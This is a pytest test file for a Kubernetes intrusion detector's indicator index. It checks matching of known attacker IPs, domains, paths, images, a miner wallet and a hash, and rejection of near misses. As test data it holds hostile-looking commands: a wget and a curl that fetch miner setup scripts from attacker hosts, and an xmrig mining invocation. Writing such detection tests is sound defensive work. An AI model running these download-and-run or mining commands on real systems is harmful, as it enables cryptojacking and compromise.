"""Looking indicators up: what is found in values and texts, and what is near it and must not be."""

from __future__ import annotations

import pytest

from kubewitness.detect.indicators.index import Index, Sighting
from kubewitness.detect.indicators.indicator import Indicator, IndicatorType
from kubewitness.detect.indicators.pack import shipped
from kubewitness.detect.indicators.wording import weight

WALLET = "46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y1NPLfSa54DGHxqnKfzDUVW1jzBfekk3hrCVCmAUrFd3H"


def index(*pairs: tuple[IndicatorType, str]) -> Index:
    return Index(Indicator(type_, value, "some-campaign") for type_, value in pairs)


def seen(text: str, one: Index | None = None) -> list[str]:
    return [sighting.indicator.value for sighting in (one or Index(shipped().indicators)).of_text(text)]


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            "wget http://45.9.148.35/chimaera/sh/setup_xmr.sh -O /tmp/.x1mr",
            ["45.9.148.35", "/chimaera/sh/", "/tmp/.x1mr"],
        ),
        ("curl irc.borg.wtf/aws.sh", ["borg.wtf"]),
        ("xmrig --url=https://45.9.148.85:443/", ["45.9.148.85"]),
        ("ssh root@45.9.148.35", ["45.9.148.35"]),
        ("cat /var/tmp/.../a", ["/var/tmp/.../"]),
        ("a -B -p GesichtsKirmes", ["-p GesichtsKirmes"]),
    ],
)
def test_values_are_found_in_a_command_whatever_stands_around_them(text: str, values: list[str]) -> None:
    assert seen(text) == values


@pytest.mark.parametrize(
    "text",
    [
        "curl notborg.wtf/x",  # another domain that ends alike
        "curl http://45.9.148.350/ 145.9.148.35",
        "ls /tmp/.x1mr2 /data/tmp/.x1mr",
        "curl http://example.com/a/chimaera/sh/x",  # not at the path's beginning
        "curl https://example.com/docs/kinsing",
        "docker run pauseyyf/pause",
        "",
        "\x00\x1b[31m" * 50,
    ],
)
def test_near_misses_are_not(text: str) -> None:
    assert seen(text) == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (WALLET, [(WALLET, False)]),
        (WALLET[:88], [(WALLET[:88], True)]),
        (WALLET[:20], [(WALLET[:20], True)]),
        (WALLET + ".rig7", [(WALLET, False)]),
        (WALLET[:19], []),
        (WALLET[:40] + "Z" * 55, []),  # another wallet with the same beginning
        (WALLET[:40] + ".rig7", []),  # ends before its rig's name: not cut, shorter
    ],
)
def test_a_wallet_that_the_list_of_processes_cut_is_known_by_its_beginning(
    value: str, expected: list[tuple[str, bool]]
) -> None:
    found = Index(shipped().indicators).of_text(f"./x -o pool.example:3333 -u {value}")
    assert [(one.seen, one.truncated) for one in found] == expected


def test_an_address_with_a_port_speaks_of_that_port_only() -> None:
    known = index(("address", "198.51.100.7"))
    ported = Index([Indicator("address", "198.51.100.7", "x", port=10300)])
    assert list(known.of_address("198.51.100.7", 22))
    assert list(ported.of_address("198.51.100.7", 10300))
    assert not list(ported.of_address("198.51.100.7", 22))


def test_private_and_loopback_addresses_never_match() -> None:
    assert not list(index(("address", "10.0.0.1")).of_address("10.0.0.1"))
    assert not list(index(("address", "127.0.0.1")).of_address("127.0.0.1"))


def test_an_image_without_a_tag_in_the_list_is_any_tag_of_it() -> None:
    known = index(("image", "evil/miner"), ("image", "evil/other:1.0"))
    assert list(known.of_image("docker.io/evil/miner:latest"))
    assert list(known.of_image("evil/other:1.0"))
    assert not list(known.of_image("evil/other:1.1"))
    assert not list(known.of_image("registry.example/evil/miner"))


def test_names_of_objects_are_whole_names() -> None:
    known = index(("object", "daemonsets/*/proxy-api"), ("object", "pods/*/node-setup-*"))
    assert list(known.of_object("daemonsets", "default", "proxy-api"))
    assert list(known.of_object("pods", "default", "node-setup-x7"))
    assert not list(known.of_object("daemonsets", "default", "proxy-api-2"))
    assert not list(known.of_object("deployments", "default", "proxy-api"))


def test_an_indicator_alone_is_no_intrusion_unless_it_is_the_hash_of_the_program() -> None:
    known = Index(shipped().indicators)
    digest = "3928c5874249cc71b2d88e5c0c00989ac394238747bb7638897fc210531b4aab"
    (program,) = known.of_hash(digest)
    assert (weight(program, "").severity, weight(program, "").kind) == ("high", "intrusion")
    for one in shipped().indicators:
        if one.type != "sha256":
            some = Sighting(one, one.value)
            assert weight(some, "").severity in ("medium", "low", "informational")
            assert weight(some, "").kind == "activity"


def test_what_has_expired_still_matches_with_low_confidence() -> None:
    (one,) = Index(shipped().indicators).of_address("45.9.148.35")
    assert weight(one, "2021-05-01T00:00:00Z")[:2] == ("medium", "high")
    assert weight(one, "2022-08-31T10:00:00Z").expired is False, "the day itself is still within"
    assert weight(one, "2026-01-01T00:00:00Z") == ("informational", "low", "activity", True)
